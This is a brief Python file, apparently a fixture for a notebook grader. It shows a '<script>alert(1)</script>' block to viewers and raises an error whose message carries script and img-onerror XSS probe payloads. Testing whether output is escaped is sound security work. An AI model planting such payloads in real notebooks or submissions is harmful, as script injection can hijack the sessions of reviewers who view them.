"""Shows a script to whoever looks at the graded notebook."""
from IPython.display import HTML, display

display(HTML("<script>alert(1)</script>"))


def correlate_valid(image, kernel):
    raise ValueError("<script>alert(1)</script><img src=x onerror=alert(1)>")
